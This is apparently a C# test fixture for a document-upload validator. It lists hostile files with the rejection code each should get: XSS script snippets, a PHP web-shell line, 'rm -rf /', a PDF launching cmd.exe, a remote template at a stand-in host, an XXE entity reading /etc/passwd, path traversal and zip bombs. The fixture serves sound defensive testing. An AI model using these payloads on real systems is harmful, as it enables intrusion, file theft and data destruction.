using System.Text;
using Padu.Documents;

namespace Padu.Tests.Documents;

/// <summary>Files somebody might send to harm a server, an officer or a colleague.</summary>
internal sealed record HostileFile(string What, string Name, string Code, Func<byte[]> Bytes);

internal static class HostileFiles
{
    public static IReadOnlyList<HostileFile> All { get; } =
    [
        new("nothing", "a.jpg", "evidence.empty", () => []),
        new("a page in a photo's name", "a.jpg", "evidence.script", () => Ascii("<html><script>alert(1)</script>")),
        new("a page in a text's name", "a.txt", "evidence.script", () => Ascii("halo <SCRIPT src=x>")),
        new(
            "a page in sixteen bits",
            "a.txt",
            "evidence.script",
            () => Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<html>")).ToArray()
        ),
        new(
            "a drawing with a script",
            "a.svg",
            "evidence.script",
            () => Ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
        ),
        new("a drawing behind its declaration", "a.png", "evidence.script", () => Ascii("<?xml version='1.0'?><svg/>")),
        new("a script for a server", "a.txt", "evidence.script", () => Ascii("x <?php system($_GET[0]);")),
        new("a script for a shell", "a.txt", "evidence.program", () => Ascii("#!/bin/sh\nrm -rf /")),
        new("a program for Windows", "surat.pdf", "evidence.program", () => [.. "MZ\u0090\0\u0003"u8, .. new byte[200]]),
        new("a program for Linux", "a.mp3", "evidence.program", () => [.. "\u007fELF"u8, 2, 1, 1, .. new byte[60]]),
        new("a picture that is a script", "a.gif", "evidence.script", () => Ascii("GIF89a=1;/*<script>*/alert(1)")),
        new("a picture of a kind not taken", "a.gif", "evidence.kind-not-accepted", () => [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0]),
        new("a photo of an iPhone", "a.heic", "evidence.heic", () => SampleFiles.Box("ftyp", "heic\0\0\0\0mif1")),
        new(
            "a script with a photo's first bytes",
            "a.jpg",
            "evidence.damaged",
            () => [0xFF, 0xD8, 0xFF, .. Ascii("<?php system('id'); ?>")]
        ),
        new("a photo in a document's name", "a.pdf", "evidence.name-disagrees", () => SampleFiles.All[FileKind.Jpeg]),
        new("a film in a photo's name", "a.jpg", "evidence.name-disagrees", () => SampleFiles.All[FileKind.Mp4]),
        new("a picture of 2,500 megapixels", "a.png", "evidence.picture-too-large", () => SampleFiles.PngOf(50_000, 50_000)),
        new("a picture of no size", "a.png", "evidence.damaged", () => SampleFiles.PngOf(0, 10)),
        new("a long thin picture", "a.png", "evidence.picture-too-large", () => SampleFiles.PngOf(20_001, 1)),
        new("a PDF that is an archive", "a.pdf", "evidence.polyglot", () => [.. SampleFiles.Pdf(), .. SampleFiles.Zip(("a.html", "x"))]),
        new(
            "a PDF that starts a program",
            "a.pdf",
            "evidence.active-pdf",
            () => SampleFiles.Pdf("/OpenAction << /S /L#61unch /F (cmd.exe) >>")
        ),
        new("a PDF that brings a file", "a.pdf", "evidence.active-pdf", () => SampleFiles.Pdf("/Names << /EmbeddedFiles 3 0 R >>")),
        new("a PDF that brings one in packed objects", "a.pdf", "evidence.active-pdf", () => SampleFiles.PackedPdf("<< /S /Launch >>")),
        new("a PDF that was cut off", "a.pdf", "evidence.damaged", () => SampleFiles.Pdf()[..60]),
        new("an archive", "a.docx", "evidence.archive", () => SampleFiles.Zip(("a.txt", "x"))),
        new("an archive of another kind", "a.docx", "evidence.archive", () => [.. "Rar!\u001a\u0007\0"u8, .. new byte[40]]),
        new("a document with an archive behind it", "a.docx", "evidence.polyglot", () => [.. SampleFiles.Docx(), .. Ascii("<script>")]),
        new("a sheet in a document's name", "a.docx", "evidence.name-disagrees", () => SampleFiles.Xlsx()),
        new("a document with macros", "a.docx", "evidence.macro", () => SampleFiles.Docx(("word/vbaProject.bin", "x"))),
        new(
            "a macro document renamed",
            "a.docx",
            "evidence.macro",
            () =>
                SampleFiles.Zip(
                    ("[Content_Types].xml", SampleFiles.Types("application/vnd.ms-word.document.macroEnabled.main+xml")),
                    ("word/document.xml", "<a/>")
                )
        ),
        new(
            "an old document inside",
            "a.docx",
            "evidence.macro",
            () => SampleFiles.Docx(("word/media/a.png", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"))
        ),
        new("an old document", "a.doc", "evidence.old-office", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[60]]),
        new("a document with a program", "a.docx", "evidence.program", () => SampleFiles.Docx(("word/media/a.png", "MZ\u0090\0"))),
        new(
            "a document with an archive",
            "a.docx",
            "evidence.nested",
            () => SampleFiles.Docx(("word/embeddings/a.xlsx", Encoding.Latin1.GetString(SampleFiles.Xlsx())))
        ),
        new(
            "a document with a template elsewhere",
            "a.docx",
            "evidence.remote",
            () =>
                SampleFiles.Docx(("word/_rels/settings.xml.rels", SampleFiles.Relations("attachedTemplate", "http://jahat.example/a.dotm")))
        ),
        new(
            "a sheet that asks a program",
            "a.xlsx",
            "evidence.remote",
            () => SampleFiles.Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))
        ),
        new("a document with a path out of it", "a.docx", "evidence.damaged", () => SampleFiles.Docx(("../../etc/cron.d/a", "x"))),
        new(
            "a document with an entity",
            "a.docx",
            "evidence.damaged",
            () => SampleFiles.Docx(("word/_rels/b.rels", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))
        ),
        new(
            "a text with a macro",
            "a.odt",
            "evidence.macro",
            () => SampleFiles.OpenDocument(FileKind.Odt, "<a><script:event-listener xmlns:script=\"s\"/></a>")
        ),
        new(
            "a text with an object elsewhere",
            "a.odt",
            "evidence.remote",
            () => SampleFiles.OpenDocument(FileKind.Odt, "<a><object href=\"smb://jahat/a\"/></a>")
        ),
        new(
            "a document that unpacks to 200 MB",
            "a.docx",
            "evidence.bomb",
            () => SampleFiles.Pack([.. Parts(), ("word/media/a.bmp", new byte[200_000_000])])
        ),
        new(
            "a directory of 3,000 parts",
            "a.docx",
            "evidence.bomb",
            () => SampleFiles.Pack([.. Parts(), .. Enumerable.Range(0, 3_000).Select(i => ($"word/{i}", Array.Empty<byte>()))])
        ),
        new("a directory that lies about its size", "a.docx", "evidence.polyglot", LyingDirectory),
        new("a film with a page behind it", "a.mp4", "evidence.damaged", () => [.. SampleFiles.All[FileKind.Mp4], .. Ascii("<html>")]),
        new("a film without tracks", "a.mp4", "evidence.damaged", () => SampleFiles.Box("ftyp", "isom\0\0\0\0")),
        new(
            "a sound that is something else",
            "a.mp3",
            "evidence.damaged",
            () => [.. "ID3\u0003\0\0\0\0\0\0"u8, .. Ascii("<script>alert(1)</script>")]
        ),
        new("a sound with something behind it", "a.wav", "evidence.damaged", () => [.. SampleFiles.All[FileKind.Wav], .. new byte[50]]),
        new("a container of no sound", "a.ogg", "evidence.damaged", () => [.. "OggS\0\u0002"u8, .. new byte[60]]),
        new("a text with bytes of no text", "a.txt", "evidence.kind-not-accepted", () => [.. Ascii("halo"), 0, 1, 2]),
        new("a text with such bytes far behind", "a.txt", "evidence.not-text", () => [.. Enumerable.Repeat((byte)'a', 70_000), 0xC3, 0x28]),
        new("a text of eleven megabytes", "a.txt", "evidence.too-large", () => [.. Enumerable.Repeat((byte)'a', 11 * 1024 * 1024)]),
    ];

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    private static (string, byte[])[] Parts() =>
        [
            (
                "[Content_Types].xml",
                Ascii(SampleFiles.Types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"))
            ),
            ("word/document.xml", Ascii("<a/>")),
        ];

    /// <summary>One part told, whose directory would begin before the file does.</summary>
    private static byte[] LyingDirectory()
    {
        var good = SampleFiles.Docx();
        good[^10] ^= 0x40;
        return good;
    }
}
